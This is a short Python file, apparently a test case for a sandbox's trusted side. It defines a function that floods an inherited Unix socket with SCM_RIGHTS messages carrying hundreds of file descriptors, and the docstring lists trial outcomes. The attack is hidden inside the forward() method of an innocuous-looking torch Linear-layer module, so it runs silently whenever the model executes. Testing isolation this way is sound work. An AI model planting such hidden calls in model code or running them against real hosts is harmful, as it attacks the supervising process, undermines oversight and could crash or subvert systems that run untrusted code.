"""Sends descriptors to the trusted side by SCM_RIGHTS, hundreds of them with single bytes of a frame.

Check: imports
Trial: done, crashed, too much output, timeout
"""

import array
import os
import socket

import torch


def attack():
    try:
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, fileno=os.dup(3))
    except OSError:
        return
    rights = array.array("i", [1] * 200)
    for _ in range(50):
        try:
            sock.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        except OSError:
            return


class Mixer(torch.nn.Module):
    def __init__(self, dim, heads, max_len, layer, layers):
        super().__init__()
        self.value = torch.nn.Linear(dim, dim)

    def forward(self, x):
        attack()
        return self.value(x)
